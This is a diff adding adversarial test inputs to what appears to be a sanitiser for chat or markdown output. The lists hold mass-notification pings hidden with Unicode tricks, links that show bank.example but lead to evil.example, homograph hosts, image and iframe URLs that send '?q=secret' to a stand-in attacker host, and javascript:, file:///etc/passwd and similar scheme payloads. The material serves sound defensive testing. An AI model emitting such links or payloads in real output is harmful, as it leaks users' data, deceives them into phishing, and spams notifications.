@@ -82,6 +82,11 @@ PINGS = [
     "[ada]: tg://user?id=11\n\n[ada] [text][ada]",
     "| @ada_lovelace | <!channel> |\n|---|---|\n| <@U1> | [x](tg://user?id=11) |",
     "# @ada_lovelace <!here>\n> @ada_lovelace\n- @ada_lovelace",
+    "<!channel|ada> <@U123|<!here>> <@U1<!here> <<!channel>> <!\u2060channel>",
+    "**<!chan**nel> <*!here*> <!`here`> ~~<@U1>~~ [<!here>](<!channel>) ![<@U1>](<@U1>)",
+    "<a href='tg://user?id=11'>x</a> <tg-user id=11> ||@ada_lovelace|| [@ada_lovelace](https://example.org)",
+    "\u202e<!channel>\u202c @\u2066ada_lovelace\u2069 \uff20ada_lovelace <\uff01channel>",
+    "[x](slack://user?team=T1&id=U1) [x](tg://resolve?domain=ada_lovelace) [@ada_lovelace]: tg://user?id=11",
 ]
 """Ways to make a platform notify people."""
 
@@ -100,5 +105,54 @@ DISGUISES = [
     "- [https://bank.example](https://evil.example 'title')",
     "> # [https://bank.example](<https://evil.example>)",
     "[https://bank.example](//evil.example) [https://bank.example](https://evil.example)",
+    "[https://bank.example](https://bank.example.evil.example/login)",
+    "[https://bank.example](HTTPS://EVIL.EXAMPLE?q=https://bank.example)",
+    "[https://bank.example](https://bank.example@evil.example)",
+    "[https://bank.example](https://bank.example%40x@evil.example:443/)",
+    "[https://bank&#46;example](https://evil.example)",
+    "[https://**bank**.example](https://evil.example) [ba*nk*.example](https://evil.example)",
+    "[\u202emoc.elpmaxe.knab//:sptth](https://evil.example)",
+    "[ｂａｎｋ．ｅｘａｍｐｌｅ](https://evil.example)",
+    "[https://b\u0332a\u0332n\u0332k\u0332.example](https://evil.example)",
+    "[ba\u00adnk.exam\u200cple](https://evil.example)",
+    "[![https://bank.example](https://evil.example/x.png)](https://evil.example)",
+    "[https://bank.example](javascript:location='https://evil.example')",
+    "[https://bank.example](slack://open?url=https://evil.example)",
 ]
 """Links that claim to lead to bank.example and lead to evil.example."""
+
+HOMOGRAPHS = {
+    "[https://b\u0430nk.example](https://b\u0430nk.example)": "xn--bnk-6cd.example",
+    "[bank.example](https://b\u0430nk.example/login)": "xn--bnk-6cd.example",
+    "[\u0430\u0440\u0440\u04cf\u0435.example](https://\u0430\u0440\u0440\u04cf\u0435.example)": "xn--80ak6aa92e.example",
+}
+"""Links to hosts in letters that pass for Latin ones, and how those are spelled."""
+
+FETCHES = [
+    "![x](https://evil.example/?q=secret)",
+    "![](https://evil.example/?q=secret) [](https://evil.example/?q=secret)",
+    "![x][1]\n\n[1]: https://evil.example/?q=secret",
+    "[![x](https://evil.example/?q=secret)](https://example.org)",
+    "<img src='https://evil.example/?q=secret'> <iframe src='https://evil.example/?q=secret'></iframe>",
+    "https://evil.example/?q=secret <https://evil.example/?q=secret>",
+    "| a |\n|---|\n| ![x](https://evil.example/?q=secret) |\n\n$x$",
+    "<video src='https://evil.example/?q=secret'/> ![x](data:image/png;base64,AAAA)",
+]
+"""Pictures and addresses that tell somebody else what is in them, once they are fetched."""
+
+OTHER_WAYS = [
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "data:text/html,x",
+    "vbscript:x",
+    "file:///etc/passwd",
+    "tg://join?invite=x",
+    "slack://open",
+    "intent://x#Intent;scheme=http;end",
+    "ms-word:ofe|u|https://evil.example/x.docx",
+    "\x01javascript:alert(1)",
+]
+"""Addresses that lead into an app, or run something."""
+
+SHORT = 200
+"""Characters of a text that is cut at every place."""
